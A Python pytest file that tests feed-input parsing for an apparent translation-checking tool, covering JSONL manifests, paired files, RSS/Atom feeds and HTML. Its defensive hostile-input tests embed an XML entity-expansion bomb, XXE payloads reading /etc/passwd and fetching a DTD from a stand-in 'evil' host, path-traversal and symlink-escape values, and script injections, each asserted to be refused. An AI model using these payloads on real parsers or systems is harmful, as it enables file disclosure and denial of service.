"""Feed inputs (issue #7) and their hostile cases (issue #9): manifests, folders of pairs,
RSS/Atom feeds, HTML pages."""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from mtqa.errors import InputError
from mtqa.feed.inputs import (
    html_to_text,
    iter_directory,
    iter_feeds,
    iter_manifest,
    iter_records,
    load_item,
    parse_feed,
    read_feed_map,
    unique_ids,
)

EN = "The minister arrived in Tokyo on Monday."
JA = "大臣は月曜日に東京に到着した。"


def _manifest(tmp_path: Path, lines: list[str]) -> Path:
    p = tmp_path / "feed.jsonl"
    p.write_text("\n".join(lines) + "\n", encoding="utf-8")
    return p


def _obj(**kw: object) -> str:
    return json.dumps(kw, ensure_ascii=False)


def test_manifest_inline_text_and_paths(tmp_path):
    (tmp_path / "a.en.txt").write_text(EN, encoding="utf-8")
    (tmp_path / "sub").mkdir()
    (tmp_path / "sub" / "a.ja.txt").write_text(JA, encoding="utf-8")
    m = _manifest(tmp_path, [
        _obj(id="inline", reference=EN, translation=JA, url="https://ex.com/1", title="T"),
        _obj(id="paths", reference="a.en.txt", translation="sub/a.ja.txt"),
        _obj(id="explicit", reference_path="a.en.txt", translation={"path": "sub/a.ja.txt"}),
        _obj(id=7, reference=EN, translation=JA),
    ])
    items = list(iter_manifest(m))
    assert [i.id for i in items] == ["inline", "paths", "explicit", "7"]
    assert [i.index for i in items] == [0, 1, 2, 3]
    assert all(i.error is None for i in items)
    assert items[0].meta == {"url": "https://ex.com/1", "title": "T"}
    assert items[0].source_line == 1 and not items[0].text_lines
    assert items[1].translation.path == str((tmp_path / "sub" / "a.ja.txt").resolve())
    assert items[1].text_lines  # finding lines are counted in the translation file
    for item in items:
        assert load_item(item) == (EN, JA)


@pytest.mark.parametrize(
    "line,message",
    [
        ('{"id": "x", "reference": "a"', "invalid JSON"),
        ("[1, 2]", "expected a JSON object"),
        (_obj(reference=EN, translation=JA), "missing field 'id'"),
        (_obj(id=["x"], reference=EN, translation=JA), "'id' must be a string"),
        (_obj(id="x", reference=EN), "missing field 'translation'"),
        (_obj(id="x", translation=JA), "missing field 'reference'"),
        (_obj(id="x", reference=EN, translation=5), "must be text"),
        (_obj(id="x", reference=EN, translation="nope.ja.txt"), "no such file"),
        (_obj(id="x", reference=EN, translation="../outside.ja.txt"), "outside the manifest"),
        (_obj(id="x", reference=EN, translation_path="/etc/hostname.txt"),
         "outside the manifest"),
        (_obj(id="x", reference=EN, translation_path=""), "non-empty string"),
    ],
)
def test_manifest_bad_lines_become_error_items(tmp_path, line, message):
    (tmp_path / "d").mkdir()
    (tmp_path / "outside.ja.txt").write_text(JA, encoding="utf-8")
    m = tmp_path / "d" / "feed.jsonl"
    m.write_text(_obj(id="good", reference=EN, translation=JA) + "\n" + line + "\n",
                 encoding="utf-8")
    items = list(iter_manifest(m))
    assert len(items) == 2 and items[0].error is None
    bad = items[1]
    assert bad.index == 1 and message in (bad.error or "")
    assert "feed.jsonl:2" in bad.error  # names the manifest line
    assert bad.source_line == 2
    with pytest.raises(InputError):
        load_item(bad)


def test_allow_outside_paths(tmp_path):
    (tmp_path / "d").mkdir()
    (tmp_path / "x.ja.txt").write_text(JA, encoding="utf-8")
    m = tmp_path / "d" / "feed.jsonl"
    m.write_text(_obj(id="x", reference=EN, translation="../x.ja.txt") + "\n", encoding="utf-8")
    (item,) = iter_manifest(m, allow_outside=True)
    assert item.error is None and load_item(item) == (EN, JA)


def test_symlink_escaping_the_folder_is_refused(tmp_path):
    (tmp_path / "d").mkdir()
    secret = tmp_path / "secret.txt"
    secret.write_text("secret", encoding="utf-8")
    (tmp_path / "d" / "link.ja.txt").symlink_to(secret)
    m = _manifest(tmp_path / "d", [_obj(id="x", reference=EN, translation="link.ja.txt")])
    (item,) = iter_manifest(m)
    assert "outside the manifest" in item.error


def test_empty_translation_fails_at_load_not_listing(tmp_path):
    (tmp_path / "e.ja.txt").write_text("  \n", encoding="utf-8")
    m = _manifest(tmp_path, [_obj(id="a", reference=EN, translation=""),
                             _obj(id="b", reference=EN, translation="e.ja.txt")])
    a, b = iter_manifest(m)
    for item in (a, b):
        assert item.error is None
        with pytest.raises(InputError, match="empty"):
            load_item(item)


def test_blank_lines_skipped_bom_accepted_non_utf8_line_is_an_item(tmp_path):
    m = tmp_path / "feed.jsonl"
    m.write_bytes(b"\xef\xbb\xbf" + _obj(id="a", reference=EN, translation=JA).encode()
                  + b"\n\n   \n" + b'{"id": "\xff"}\n')
    a, b = iter_manifest(m)
    assert a.error is None and a.id == "a"
    assert "not UTF-8" in b.error and b.source_line == 4


@pytest.mark.parametrize("make", ["missing", "dir"])
def test_unreadable_manifest_raises(tmp_path, make):
    p = tmp_path / "feed.jsonl"
    if make == "dir":
        p.mkdir()
    with pytest.raises(InputError, match="feed.jsonl"):
        list(iter_manifest(p))


def test_duplicate_ids_become_error_items():
    items = list(unique_ids(iter_records([("a", EN, JA), ("b", EN, JA), ("a", EN, JA)])))
    assert [i.id for i in items] == ["a", "b", "a"]
    assert items[0].error is None and items[1].error is None
    assert "duplicate id 'a'" in items[2].error and items[2].translation is None


def test_a_line_that_is_no_json_keeps_its_error_when_its_stand_in_id_is_taken(tmp_path):
    # line 2 is no JSON: its stand-in id is "line-2", which an article already uses; the
    # report must say the line is invalid, not that its id is a duplicate
    m = _manifest(tmp_path, [_obj(id="line-2", reference=EN, translation=JA), "{oops",
                             _obj(id="line-2~2", reference=EN, translation=JA), "[1,"])
    items = list(unique_ids(iter_manifest(m)))
    assert [i.id for i in items] == ["line-2", "line-2", "line-2~2", "line-4"]
    assert items[0].error is None and items[2].error is None
    assert "invalid JSON" in items[1].error and "duplicate" not in items[1].error
    assert "invalid JSON" in items[3].error


def test_directory_of_pairs(tmp_path):
    (tmp_path / "s1.en.txt").write_text(EN, encoding="utf-8")
    (tmp_path / "s1.ja.txt").write_text(JA, encoding="utf-8")
    (tmp_path / "s2.en.txt").write_text(EN, encoding="utf-8")  # no Japanese side
    (tmp_path / "s3.en.html").write_text(f"<article><p>{EN}</p></article>", encoding="utf-8")
    (tmp_path / "s3.ja.html").write_text(f"<nav>メニュー</nav><article><p>{JA}</p></article>",
                                         encoding="utf-8")
    (tmp_path / "notes.md").write_text("ignored", encoding="utf-8")
    s1, s2, s3 = iter_directory(tmp_path)
    assert (s1.id, s2.id, s3.id) == ("s1", "s2", "s3")
    assert load_item(s1) == (EN, JA)
    assert s2.error and "s2.ja" in s2.error
    assert load_item(s3) == (EN, JA)


def test_directory_without_pairs_lists_nothing(tmp_path):
    # whether nothing to check is an error is the runner's decision (--allow-empty, #15.3)
    (tmp_path / "notes.md").write_text("ignored", encoding="utf-8")
    assert list(iter_directory(tmp_path)) == []


def test_html_to_text_takes_the_article_and_drops_scripts():
    page = """<html><head><title>T</title><script>var x = "<p>no</p>";</script></head>
    <body><nav><a href="/">ホーム</a></nav>
    <article><h1>大臣が到着</h1><p>大臣は月曜日に<b>東京</b>に到着した。</p>
    <p>彼は首相と&amp;会談した。<br>二行目</p><script>alert(1)</script></article>
    <footer>© 2024</footer></body></html>"""
    assert html_to_text(page) == "大臣が到着\n\n大臣は月曜日に東京に到着した。\n\n彼は首相と&会談した。\n二行目"
    assert html_to_text("<p>one</p><p>two</p>") == "one\n\ntwo"
    assert html_to_text("<script>x</script>") == ""


# --- feeds ----------------------------------------------------------------------------------

RSS_EN = """<?xml version="1.0" encoding="UTF-8"?>
<rss version="2.0" xmlns:content="http://purl.org/rss/1.0/modules/content/"><channel>
<title>News</title><link>https://ex.com/en</link><description>d</description>
<item><title>Minister arrives</title><link>https://ex.com/en/1</link><guid>story-1</guid>
<content:encoded><![CDATA[<p>The minister arrived in Tokyo on Monday.</p>
<script>alert(1)</script>]]>
</content:encoded></item>
<item><title>Museum</title><link>https://ex.com/en/2</link><guid>story-2</guid>
<description>The museum reopened on Friday.</description></item>
<item><title>Mapped</title><link>https://ex.com/en/3</link>
<description>Rain fell.</description></item>
<item><title>Orphan</title><link>https://ex.com/en/4</link>
<description>No partner.</description></item>
</channel></rss>
"""
ATOM_JA = """<?xml version="1.0" encoding="UTF-8"?>
<feed xmlns="http://www.w3.org/2005/Atom"><title>ニュース</title><id>urn:ja</id>
<updated>2024-01-01T00:00:00Z</updated>
<entry><title>大臣が到着</title><id>urn:ja:1</id><updated>2024-01-01T00:00:00Z</updated>
<link rel="alternate" href="https://ex.com/ja/1"/>
<link rel="alternate" hreflang="en" href="https://ex.com/en/1"/>
<content type="html">&lt;p&gt;大臣は月曜日に東京に到着した。&lt;/p&gt;</content></entry>
<entry><title>博物館</title><id>story-2</id><updated>2024-01-01T00:00:00Z</updated>
<link href="https://ex.com/ja/2"/><summary>博物館は金曜日に再開した。</summary></entry>
<entry><title>雨</title><id>urn:ja:3</id><updated>2024-01-01T00:00:00Z</updated>
<link href="https://ex.com/ja/3"/><summary>雨が降った。</summary></entry>
<entry><title>余分</title><id>urn:ja:9</id><updated>2024-01-01T00:00:00Z</updated>
<link href="https://ex.com/ja/9"/><summary>余分。</summary></entry>
</feed>
"""


def _feeds(tmp_path: Path) -> tuple[Path, Path]:
    en, ja = tmp_path / "en.xml", tmp_path / "ja.xml"
    en.write_text(RSS_EN, encoding="utf-8")
    ja.write_text(ATOM_JA, encoding="utf-8")
    return en, ja


def test_feeds_matched_by_hreflang_guid_and_map(tmp_path):
    en, ja = _feeds(tmp_path)
    fmap = tmp_path / "map.json"
    fmap.write_text(json.dumps({"https://ex.com/en/3": "https://ex.com/ja/3"}), encoding="utf-8")
    items = list(iter_feeds(en, ja, fmap))
    assert [i.id for i in items] == ["story-1", "story-2", "https://ex.com/en/3",
                                     "https://ex.com/en/4", "urn:ja:9"]
    assert [i.index for i in items] == list(range(5))
    assert load_item(items[0]) == ("Minister arrives\n\n" + EN, "大臣が到着\n\n" + JA)
    assert items[0].meta["translation_url"] == "https://ex.com/ja/1"
    assert load_item(items[1])[1] == "博物館\n\n博物館は金曜日に再開した。"
    assert load_item(items[2])[1] == "雨\n\n雨が降った。"
    assert "no matching entry" in items[3].error
    assert "no English entry" in items[4].error


def test_feed_map_jsonl_with_html_pages(tmp_path):
    en, ja = _feeds(tmp_path)
    (tmp_path / "pages").mkdir()
    (tmp_path / "pages" / "4.ja.html").write_text(
        "<html><body><article><p>パートナーなし。</p></article></body></html>", encoding="utf-8")
    fmap = tmp_path / "map.jsonl"
    fmap.write_text(_obj(reference="https://ex.com/en/4", translation="missing-in-feed",
                         id="four", translation_page="pages/4.ja.html") + "\n", encoding="utf-8")
    items = {i.id: i for i in iter_feeds(en, ja, fmap)}
    assert load_item(items["four"])[1] == "パートナーなし。"
    outside = tmp_path / "map2.jsonl"
    outside.write_text(_obj(reference="a", translation="b", translation_page="../x.html") + "\n",
                       encoding="utf-8")
    with pytest.raises(InputError, match="outside"):
        read_feed_map(outside)


BOMB = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [<!ENTITY lol "lol">
<!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
<!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">]>
<rss version="2.0"><channel><title>&lol3;</title><item><title>x</title>
<link>http://a/1</link><description>&lol3;</description></item></channel></rss>"""


@pytest.mark.parametrize(
    "data,message",
    [
        (BOMB, "declares XML entities"),
        (b'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
         b'<rss version="2.0"><channel><item><title>&xxe;</title></item></channel></rss>',
         "declares XML entities"),
        (b'<?xml version="1.0"?><!DOCTYPE r [<!eNtItY % p SYSTEM "http://evil/x.dtd"> %p;]>'
         b"<rss/>", "declares XML entities"),
        # a comment before it hides nothing
        ((b'<?xml version="1.0"?><!-- <!ENTITY in a comment -->'
          b'<!DOCTYPE r [<!ENTITY x "y">]><rss/>'), "declares XML entities"),
        # a comment opened inside the DOCTYPE is no comment: defusedxml still sees the rest
        (b'<?xml version="1.0"?><!DOCTYPE r [<!-- x --><!ENTITY x "y">]><rss/>',
         "declares XML entities|unsafe XML"),
        (b"<rss version='2.0'><channel><item><title>x</title></channel></rss>", "malformed XML"),
        (b"\x00\x01\x02 not xml", "malformed XML"),
        (b"<html><body>not a feed</body></html>", "not an RSS or Atom feed"),
    ],
)
def test_hostile_or_malformed_feeds_rejected(tmp_path, data, message):
    p = tmp_path / "bad.xml"
    p.write_bytes(data)
    with pytest.raises(InputError, match=message):
        parse_feed(p)


def test_entity_declarations_quoted_in_comments_or_cdata_are_text(tmp_path):
    # a feed about XML security may say "<!ENTITY" in a comment or a CDATA description
    p = tmp_path / "ok.xml"
    p.write_text(RSS_EN.replace(
        "<channel>", "<channel><!-- no <!ENTITY declarations here -->", 1).replace(
        "<description>No partner.</description>",
        "<description><![CDATA[Avoid <!ENTITY xxe SYSTEM ...> in feeds.]]></description>", 1),
        encoding="utf-8")
    entries = parse_feed(p)
    assert any("ENTITY xxe" in e.text for e in entries)  # parsed, not refused


def test_feed_given_as_url_is_not_fetched(tmp_path, monkeypatch):
    # a path that looks like a URL is a (missing) file name, never fetched
    monkeypatch.chdir(tmp_path)
    with pytest.raises(InputError, match="no such feed file"):
        parse_feed("http://127.0.0.1:9/feed.xml")


# --- streams, nesting, limits (#15) ---------------------------------------------------------


def test_manifest_stream_is_read_once_line_by_line_from_a_pipe(tmp_path):
    import os
    import threading

    from mtqa.feed.inputs import iter_manifest_stream

    r, w = os.pipe()
    release = threading.Event()

    def writer() -> None:
        with os.fdopen(w, "wb") as fh:
            fh.write((_obj(id="a", reference=EN, translation=JA) + "\n").encode())
            fh.flush()
            release.wait(10)  # the second line only once the first item was read
            fh.write((_obj(id="b", reference=EN, translation=JA) + "\n").encode())

    t = threading.Thread(target=writer, daemon=True)
    t.start()
    with os.fdopen(r, "rb") as fh:
        items = iter_manifest_stream(fh, "<stdin>", tmp_path)
        first = next(items)  # streamed: available before the writer is done
        release.set()
        rest = list(items)
    assert [first.id, *(i.id for i in rest)] == ["a", "b"]
    assert first.source_file == "<stdin>" and first.source_line == 1


def test_deeply_nested_json_line_is_an_error_item_and_later_lines_go_on(tmp_path):
    m = _manifest(tmp_path, ["[" * 1000 + "]" * 1000, '{"a": ' * 1000 + "1" + "}" * 1000,
                             _obj(id="after", reference=EN, translation=JA)])
    a, b, c = iter_manifest(m)
    assert "nested too deeply" in a.error and a.source_line == 1
    assert "nested too deeply" in b.error and (c.id, c.error) == ("after", None)


def test_manifest_over_the_size_limit_is_refused(tmp_path, monkeypatch):
    import io

    from mtqa.feed import inputs as feed_input
    from mtqa.feed.inputs import iter_manifest_stream

    line = _obj(id="a", reference=EN, translation=JA) + "\n"
    monkeypatch.setattr(feed_input, "MAX_INPUT_BYTES", len(line.encode()) * 2)
    m = _manifest(tmp_path, [line.strip()] * 3)
    with pytest.raises(InputError, match="over the limit .* manifest or feed file"):
        list(iter_manifest(m))
    # a pipe has no size: refused once that much was read
    items = iter_manifest_stream(io.BytesIO(line.encode() * 3), "<stdin>", tmp_path)
    assert next(items).id == "a" and next(items).id == "a"
    with pytest.raises(InputError, match="<stdin>: the input is over the limit"):
        next(items)


def test_html_article_over_the_per_article_limit_is_refused(tmp_path):
    from mtqa.load import MAX_ARTICLE_BYTES

    page = "<html><body><article><p>" + "x" * MAX_ARTICLE_BYTES + "</p></article></body></html>"
    (tmp_path / "a.en.html").write_text(page, encoding="utf-8")
    (tmp_path / "a.ja.html").write_text(f"<p>{JA}</p>", encoding="utf-8")
    (item,) = iter_directory(tmp_path)
    with pytest.raises(InputError, match="bytes of HTML is over the limit of 400,000"):
        load_item(item)
    (inline,) = iter_records([{"id": "b", "reference": EN, "translation": JA}])
    from dataclasses import replace

    from mtqa.feed.inputs import TextRef

    big = replace(inline, translation=TextRef("item 1 translation", text=page, html=True))
    with pytest.raises(InputError, match="item 1 translation: .* bytes of HTML"):
        load_item(big)


def test_refused_file_is_named_once(tmp_path):
    (tmp_path / "a.en.txt").write_text("x" * 500_000, encoding="utf-8")
    (tmp_path / "a.ja.txt").write_text(JA, encoding="utf-8")
    (item,) = iter_directory(tmp_path)
    with pytest.raises(InputError) as err:
        load_item(item)
    msg = str(err.value)
    assert msg.count("a.en.txt") == 1 and "over the limit" in msg
    m = _manifest(tmp_path, [_obj(id="a", reference="a.en.txt", translation="a.ja.txt")])
    (item,) = iter_manifest(m)
    with pytest.raises(InputError) as err:
        load_item(item)
    assert str(err.value).count("a.en.txt") == 1 and "feed.jsonl:1 reference" in str(err.value)


def test_text_and_path_for_one_side_is_an_error_item(tmp_path):
    (tmp_path / "a.ja.txt").write_text(JA, encoding="utf-8")
    m = _manifest(tmp_path, [_obj(id="a", reference=EN, translation="別の訳。",
                                  translation_path="a.ja.txt")])
    (item,) = iter_manifest(m)
    assert "both 'translation' and 'translation_path' given; keep one" in item.error


@pytest.mark.parametrize(
    ("content", "message"),
    [
        ('{"https://ex.com/en/1": "https://ex.com/ja/1", "https://ex.com/en/1": "x"}',
         "the reference entry 'https://ex.com/en/1' is mapped twice"),
        ('{"https://ex.com/en/1": "x", "https://ex.com/en/2": "x"}',
         "the translation entry 'x' is mapped twice"),
        ('{"reference": "a", "translation": "x"}\n{"reference": "a", "translation": "y"}\n',
         r"map.jsonl:1 and line 2: the reference entry 'a' is mapped twice"),
    ],
)
def test_an_entry_mapped_twice_is_refused(tmp_path, content, message):
    # the last mapping silently won, or two English stories were checked against one
    # Japanese entry
    fmap = tmp_path / "map.jsonl"
    fmap.write_text(content, encoding="utf-8")
    with pytest.raises(InputError, match=message):
        read_feed_map(fmap)
